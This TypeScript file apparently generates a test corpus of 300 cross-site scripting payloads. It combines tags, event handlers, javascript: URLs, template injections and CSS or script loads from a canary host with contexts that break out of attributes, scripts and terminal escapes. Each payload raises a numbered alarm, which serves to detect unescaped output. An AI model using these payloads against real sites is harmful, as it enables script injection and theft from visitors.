/** Texts that would run as code wherever a page shows what it was given as anything else than text. Each calls the alarm with its number. */
import { alarm, canary } from "./visitor.ts"

/** Ways to carry code, with the call in place of CALL and a number in place of N. */
const carriers: ReadonlyArray<string> = [
  "<script>CALL</script>",
  "<ScRiPt>CALL</sCrIpT>",
  "<script src=//HOST/N.js></script>",
  "<script type=module>CALL</script>",
  "<img src=x onerror=CALL>",
  "<img/src=x/onerror=CALL>",
  "<image src=x onerror=CALL>",
  "<img src=//HOST/N.png>",
  "<img srcset=//HOST/N.png>",
  "<svg onload=CALL>",
  "<svg><script>CALL</script></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<svg><use href=//HOST/N.svg#x></svg>",
  "<math><mtext><script>CALL</script></mtext></math>",
  "<body onload=CALL>",
  "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
  "<iframe src=javascript:parent.CALL></iframe>",
  "<iframe src=//HOST/N></iframe>",
  "<object data=javascript:CALL></object>",
  "<object data=//HOST/N></object>",
  "<embed src=//HOST/N>",
  "<video><source onerror=CALL></video>",
  "<video src=x onerror=CALL></video>",
  "<audio src=x onerror=CALL></audio>",
  "<details open ontoggle=CALL>x</details>",
  "<input autofocus onfocus=CALL>",
  "<select autofocus onfocus=CALL></select>",
  "<textarea autofocus onfocus=CALL></textarea>",
  "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=CALL>",
  "<marquee onstart=CALL>x</marquee>",
  "<style>@import '//HOST/N.css';</style>",
  "<style>body{background:url(//HOST/N.png)}</style>",
  "<style onload=CALL></style>",
  "<link rel=stylesheet href=//HOST/N.css>",
  "<link rel=prefetch href=//HOST/N>",
  "<meta http-equiv=refresh content='0;url=//HOST/N'>",
  "<base href=//HOST/>",
  "<form action=//HOST/N><input type=submit autofocus></form>",
  "<a href=javascript:CALL>x</a>",
  "<a href='data:text/html,<script>CALL</script>'>x</a>",
  "<div style=background:url(//HOST/N.png)>x</div>",
  "<div onpointerover=CALL style=position:fixed;inset:0>x</div>",
  "<template shadowrootmode=open><img src=x onerror=CALL></template>",
  "<custom-element onanimationstart=CALL>x</custom-element>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<!--><img src=x onerror=CALL>-->",
  "{@html '<img src=x onerror=CALL>'}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a template would run
  "${CALL}",
  "{{constructor.constructor('CALL')()}}",
  "javascript:CALL",
]

/** What stands around the code that a page has begun already: text, an attribute, a script, a comment, an escape of the terminal. */
const wrappings: ReadonlyArray<(code: string) => string> = [
  (code) => code,
  (code) => `">${code}`,
  (code) => `'>${code}<'`,
  (code) => `</script>${code}<script>`,
  (code) => `</title></textarea></style>${code}`,
  (code) => `\u001b[31m${code}\u001b]8;;javascript:0\u0007`,
]

const call = (n: number) => `${alarm}(${n})`

/** 300 of them: every carrier in every wrapping. */
export const payloads: ReadonlyArray<string> = wrappings.flatMap((wrap, outer) =>
  carriers.map((carrier, inner) => {
    const n = outer * carriers.length + inner
    return wrap(carrier.replaceAll("CALL", call(n)).replaceAll("HOST", canary).replaceAll("N", String(n)))
  }),
)
